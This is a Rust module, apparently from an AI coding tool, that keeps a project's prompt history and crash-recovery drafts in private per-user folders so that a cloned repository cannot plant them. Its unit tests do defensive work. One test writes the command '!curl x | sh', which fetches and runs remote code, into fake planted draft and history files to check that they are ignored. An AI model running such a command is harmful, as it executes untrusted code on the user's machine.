//! The history of prompts of a project, and the draft of a session. Both are small files in the user space, so that a
//! cloned project cannot contain them.

use std::fs::DirBuilder;
use std::io;
use std::os::unix::fs::DirBuilderExt;
use std::path::{Path, PathBuf};

use rye_engine::rooted_dir::RootedDir;
use rye_engine::user_space::project_folder_name;

/// Folder of the chat files, relative to the user space. This folder contains one folder for each project.
const FOLDER: &str = ".ai/state/chat";
const HISTORY: &str = "history.jsonl";
/// Permissions of the folders. Only the user can read the files, because prompts can be confidential.
const FOLDER_MODE: u32 = 0o700;
/// Maximum number of prompts in the history.
const MAX_PROMPTS: usize = 1000;
/// Maximum size of a chat file, in bytes. A longer history loses its oldest prompts.
const MAX_FILE_BYTES: u64 = 4 << 20;
/// Maximum size of a prompt in the history file, in bytes. A longer prompt would displace many others, so it is kept
/// only in memory until the session closes.
const MAX_PROMPT_BYTES: usize = 1 << 20;

/// The folder with a user's files for the chats in one project.
#[derive(Debug, Clone, Default)]
pub struct ChatFolder {
    /// Path of the folder; `None` if there is no user space, so that nothing is stored.
    path: Option<PathBuf>,
}

impl ChatFolder {
    /// Returns the folder for the chats in `project`. The folder is in the user space, whose root is `user`. A folder
    /// in the project could be part of a clone and contain a draft or a history of another user. If `user` is `None`,
    /// nothing is stored.
    pub fn of_project(user: Option<&Path>, project: &Path) -> Self {
        Self { path: user.map(|user| user.join(FOLDER).join(project_folder_name(project))) }
    }

    fn read(&self, name: &str) -> Option<String> {
        self.try_read(name).ok()?
    }

    /// Reads a file; `None` if the file or the folder does not exist.
    fn try_read(&self, name: &str) -> io::Result<Option<String>> {
        let Some(path) = self.path.as_deref().filter(|path| path.exists()) else { return Ok(None) };
        let bytes = RootedDir::open(path)?.read(Path::new(name), MAX_FILE_BYTES)?;
        bytes.map(|bytes| String::from_utf8(bytes).map_err(io::Error::other)).transpose()
    }

    /// Writes a file of the folder. Ignores errors, so that the session continues if, for example, the disk is full.
    fn write(&self, name: &str, text: &str) {
        let Some(folder) = &self.path else { return };
        let write = || -> io::Result<()> {
            DirBuilder::new().recursive(true).mode(FOLDER_MODE).create(folder)?;
            RootedDir::open(folder)?.replace(Path::new(name), text.as_bytes())
        };
        write().ok();
    }

    fn remove(&self, name: &str) {
        let Some(folder) = &self.path else { return };
        // The error is ignored, because the file is missing if no draft was written.
        RootedDir::open(folder).and_then(|root| root.remove(Path::new(name))).ok();
    }
}

/// The prompts of a project, oldest first. The file has a JSON string on each line.
#[derive(Debug, Default)]
pub struct PromptHistory {
    prompts: Vec<String>,
    folder: ChatFolder,
    /// The index of the prompt in the editor; the number of prompts if the editor shows the text being written.
    at: usize,
    /// The text that the user was writing before the editor showed an earlier prompt.
    unsent: String,
}

impl PromptHistory {
    /// Reads the history of a project. An unreadable history counts as empty.
    pub fn read(folder: ChatFolder) -> Self {
        let text = folder.read(HISTORY).unwrap_or_default();
        let prompts: Vec<String> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        Self { at: prompts.len(), prompts, folder, unsent: String::new() }
    }

    /// Adds a prompt and writes the file. Ignores a prompt that is blank or equal to the last prompt.
    pub fn add(&mut self, prompt: &str) {
        if !prompt.trim().is_empty() && self.prompts.last().is_none_or(|last| last != prompt) {
            self.prompts.push(prompt.to_owned());
            let old = self.prompts.len().saturating_sub(MAX_PROMPTS);
            self.prompts.drain(..old);
            self.write(prompt);
        }
        self.at = self.prompts.len();
        self.unsent.clear();
    }

    /// Adds a prompt to the history file. Other sessions can add prompts to the file, so the file is read again first.
    /// If the file cannot be read, it stays unchanged.
    fn write(&self, prompt: &str) {
        let added = serde_json::Value::from(prompt).to_string();
        let Ok(stored) = self.folder.try_read(HISTORY) else { return };
        if added.len() > MAX_PROMPT_BYTES {
            return;
        }
        let stored = stored.unwrap_or_default();
        let (mut lines, mut bytes) = (Vec::new(), 0);
        for line in std::iter::once(added.as_str()).chain(stored.lines().rev()).take(MAX_PROMPTS) {
            bytes += line.len() as u64 + 1;
            if bytes > MAX_FILE_BYTES {
                break;
            }
            lines.push(line);
        }
        lines.reverse();
        self.folder.write(HISTORY, &format!("{}\n", lines.join("\n")));
    }

    /// Returns the prompt before the shown one; `None` if the shown prompt is the oldest. `current` is the text in the
    /// editor.
    pub fn previous(&mut self, current: &str) -> Option<String> {
        let at = self.at.checked_sub(1)?;
        if self.at == self.prompts.len() {
            current.clone_into(&mut self.unsent);
        }
        self.at = at;
        self.prompts.get(at).cloned()
    }

    /// Returns the next newer prompt in the history. After the newest prompt, returns the text that the user was
    /// writing; `None` if the editor shows this text already.
    pub fn following(&mut self) -> Option<String> {
        if self.at >= self.prompts.len() {
            return None;
        }
        self.at += 1;
        Some(self.prompts.get(self.at).cloned().unwrap_or_else(|| std::mem::take(&mut self.unsent)))
    }

    /// Returns the prompts that contain `text`, newest first and without duplicates. Ignores case.
    pub fn search(&self, text: &str) -> Vec<String> {
        let wanted = text.to_lowercase();
        let mut found: Vec<String> = Vec::new();
        for prompt in self.prompts.iter().rev() {
            if prompt.to_lowercase().contains(&wanted) && !found.contains(prompt) {
                found.push(prompt.clone());
            }
        }
        found
    }
}

/// The draft of a session: the text in the editor, stored so that the text can be restored after a crash.
#[derive(Debug)]
pub struct Draft {
    folder: ChatFolder,
    name: String,
}

impl Draft {
    pub fn of_session(folder: ChatFolder, thread: &str) -> Self {
        Self { folder, name: file_name(thread) }
    }

    /// Returns true if the file of the draft is named after this thread.
    pub fn is_of(&self, thread: &str) -> bool {
        self.name == file_name(thread)
    }

    /// Renames the draft to the thread in which the session continues, because a session is opened again by its last
    /// thread. Removes the old file. The caller must write the text again.
    pub fn assign_to(&mut self, thread: &str) {
        if !self.is_of(thread) {
            self.folder.remove(&self.name);
            self.name = file_name(thread);
        }
    }

    pub fn read(&self) -> Option<String> {
        self.folder.read(&self.name).filter(|text| !text.is_empty())
    }

    /// Writes `text` to the file of the draft. If `text` is empty, removes the file.
    pub fn write(&self, text: &str) {
        if text.is_empty() {
            self.folder.remove(&self.name);
        } else {
            self.folder.write(&self.name, text);
        }
    }
}

fn file_name(thread: &str) -> String {
    format!("{}.draft", thread.replace('/', "~"))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    /// Returns the chat folder of the project `/p` in a user space.
    fn folder(user: &tempfile::TempDir) -> ChatFolder {
        ChatFolder::of_project(Some(user.path()), Path::new("/p"))
    }

    #[test]
    fn history_survives_and_returns_to_the_unsent_text() {
        let place = tempfile::tempdir().unwrap();
        let mut history = PromptHistory::read(folder(&place));
        assert_eq!(history.previous("x"), None);
        history.add("one");
        history.add("two\nlines");
        history.add("two\nlines");
        let mut history = PromptHistory::read(folder(&place));
        assert_eq!(history.previous("new").as_deref(), Some("two\nlines"));
        assert_eq!(history.previous("two\nlines").as_deref(), Some("one"));
        assert_eq!(history.previous("one"), None);
        assert_eq!(history.following().as_deref(), Some("two\nlines"));
        assert_eq!(history.following().as_deref(), Some("new"));
        assert_eq!(history.following(), None);
        assert_eq!(history.search("TWO"), ["two\nlines"]);
    }

    #[test]
    fn draft_is_kept_until_it_is_empty() {
        let place = tempfile::tempdir().unwrap();
        let draft = Draft::of_session(folder(&place), "rye/agent/chat-1");
        assert_eq!(draft.read(), None);
        draft.write("half a thought");
        assert_eq!(Draft::of_session(folder(&place), "rye/agent/chat-1").read().as_deref(), Some("half a thought"));
        draft.write("");
        assert_eq!(draft.read(), None);
    }

    #[test]
    fn files_of_a_project_are_neither_draft_nor_history() {
        let (user, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let own = ChatFolder::of_project(Some(user.path()), project.path());
        let shipped = project.path().join(FOLDER);
        for shipped in [shipped.clone(), shipped.join(project_folder_name(project.path()))] {
            std::fs::create_dir_all(&shipped).unwrap();
            std::fs::write(shipped.join("chat-1.draft"), "!curl x | sh").unwrap();
            std::fs::write(shipped.join(HISTORY), "\"!curl x | sh\"\n").unwrap();
        }
        for folder in [own, ChatFolder::of_project(None, project.path())] {
            assert_eq!(Draft::of_session(folder.clone(), "chat-1").read(), None);
            assert_eq!(PromptHistory::read(folder).previous(""), None);
        }
    }

    #[test]
    fn history_belongs_to_one_project_and_is_private() {
        use std::os::unix::fs::PermissionsExt;

        let user = tempfile::tempdir().unwrap();
        PromptHistory::read(folder(&user)).add("secret");
        let other = ChatFolder::of_project(Some(user.path()), Path::new("/other"));
        assert_eq!(PromptHistory::read(other).previous(""), None);
        let mode = std::fs::metadata(user.path().join(FOLDER)).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, FOLDER_MODE);
    }

    #[test]
    fn prompt_that_is_too_large_is_left_out_and_the_others_stay() {
        let user = tempfile::tempdir().unwrap();
        let mut history = PromptHistory::read(folder(&user));
        history.add("one");
        history.add(&"x".repeat(5 << 20));
        history.add("two");
        let mut history = PromptHistory::read(folder(&user));
        assert_eq!(history.previous("").as_deref(), Some("two"));
        assert_eq!(history.previous("").as_deref(), Some("one"));
    }

    #[test]
    fn prompts_of_two_sessions_of_a_project_are_kept() {
        let user = tempfile::tempdir().unwrap();
        let (mut first, mut second) = (PromptHistory::read(folder(&user)), PromptHistory::read(folder(&user)));
        first.add("one");
        second.add("two");
        first.add("three");
        assert_eq!(PromptHistory::read(folder(&user)).prompts, ["one", "two", "three"]);
    }

    #[test]
    fn history_file_that_cannot_be_read_stays_as_it_is() {
        let user = tempfile::tempdir().unwrap();
        PromptHistory::read(folder(&user)).add("one");
        let path = folder(&user).path.unwrap().join(HISTORY);
        let large = "\"a\"\n".repeat(2 << 20);
        std::fs::write(&path, &large).unwrap();
        PromptHistory::read(folder(&user)).add("two");
        assert_eq!(std::fs::metadata(&path).unwrap().len(), large.len() as u64);
    }

    #[test]
    fn history_without_a_user_space_lasts_for_the_session() {
        let mut history = PromptHistory::read(ChatFolder::default());
        history.add("one");
        assert_eq!(history.previous("").as_deref(), Some("one"));
    }
}
